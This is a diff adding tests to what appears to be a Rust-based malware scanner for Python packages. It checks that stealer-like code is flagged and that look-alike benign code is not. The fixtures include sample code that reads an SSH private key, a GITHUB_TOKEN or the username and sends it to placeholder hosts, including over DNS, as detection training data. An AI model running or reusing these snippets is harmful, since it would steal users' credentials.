@@ -305,7 +305,8 @@ if __name__ == "__main__":
 
 #[test]
 fn loose_modules_outside_script_dirs_are_not_dormant() {
-    let beacon = "import requests, getpass\nrequests.post('http://127.0.0.1:9/', json={'u': getpass.getuser()})\n";
+    // a stealer: a credential file posted to a fixed address, wherever the code runs
+    let beacon = "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://127.0.0.1:9/', data=key)\n";
     let init = SourceFile { path: "p-1.0/pkg/__init__.py", text: "", role: FileRole::PackageInit };
     let odd = SourceFile { path: "p-1.0/pkg/__init__py.py/pkg/beacon.py", text: beacon, role: FileRole::Module };
     let f = analyze_package(&[init, odd], &PackageContext::default());
@@ -496,4 +497,47 @@ fn git_clone_then_run_on_import() {
     assert!(has(&run("pkg/utils.py", FileRole::Module, src), AlertId::DownloadExec));
     let benign = "import git, subprocess\ndef clone(url, dest):\n    git.Repo.clone_from(url, dest)\n    subprocess.run(['make'], cwd=dest)\n";
     assert!(!critical(&run("pkg/vcs.py", FileRole::Module, benign)));
+}
+
+#[test]
+fn own_host_lookups_are_not_exfiltration() {
+    // jupyter_client's localinterfaces: the machine resolving its own name
+    let src = "import socket\ndef load():\n    hostname = socket.gethostname()\n    ips = socket.gethostbyname_ex(hostname)[2]\n    ips2 = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n    return ips, ips2\n";
+    let f = run("jupyter_client/localinterfaces.py", FileRole::Module, src);
+    assert!(!critical(&f), "{f:#?}");
+    // the same lookup under a literal domain carries data out (DNS exfiltration)
+    let beacon = "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x7.example.com')\n";
+    assert!(has(&run("evil-1.0/setup.py", FileRole::SetupScript, beacon), AlertId::Exfiltration));
+}
+
+#[test]
+fn api_tokens_sent_to_their_service_are_capabilities() {
+    let client = "import os, requests\ndef call(q):\n    tok = os.environ['OPENAI_API_KEY']\n    return requests.post('https://api.example.com/v1/q', headers={'Authorization': 'Bearer ' + tok}, json={'q': q})\n";
+    assert!(!critical(&run("client/api.py", FileRole::Module, client)));
+    let oauth = "import os, requests\ndef token():\n    return requests.post('https://auth.example.com/token', data={'secret': os.getenv('CLIENT_SECRET')})\n";
+    assert!(!critical(&run("client/auth.py", FileRole::Module, oauth)));
+    // the same token posted from setup.py is theft
+    let setup = "import os, requests\nrequests.post('https://collect.example.com/t', data={'t': os.getenv('GITHUB_TOKEN')})\n";
+    assert!(has(&run("evil-1.0/setup.py", FileRole::SetupScript, setup), AlertId::Exfiltration));
+}
+
+#[test]
+fn runtime_stealer_posting_key_files_to_a_fixed_endpoint_is_caught() {
+    let src = "import os, requests\ndef backup_wallet():\n    data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://127.0.0.1:9/k', data={'k': data})\n";
+    assert!(has(&run("tool/wallet.py", FileRole::Module, src), AlertId::Exfiltration));
+    // host facts sent at runtime to a URL the caller passes in: telemetry, not theft
+    let telemetry = "import platform, requests\ndef report(url):\n    requests.post(url, json={'host': platform.node()})\n";
+    assert!(!critical(&run("tool/telemetry.py", FileRole::Module, telemetry)));
+}
+
+#[test]
+fn a_wheel_command_class_does_not_run_at_install() {
+    // numpy/distutils/command/build_ext.py in a wheel: runs when another build calls it
+    let src = "import subprocess\nfrom distutils.command.build_ext import build_ext as old\nclass build_ext(old):\n    def run(self):\n        subprocess.check_call(['gcc', '-v'])\n";
+    let f = run("numpy/distutils/command/build_ext.py", FileRole::Module, src);
+    assert!(f.iter().all(|x| x.context != Some(ExecContext::Install)), "{f:#?}");
+    assert!(!has(&f, AlertId::InstallHook));
+    // the same class in setup.py is an install hook
+    let f = run("p-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, AlertId::InstallHook), "{f:#?}");
 }
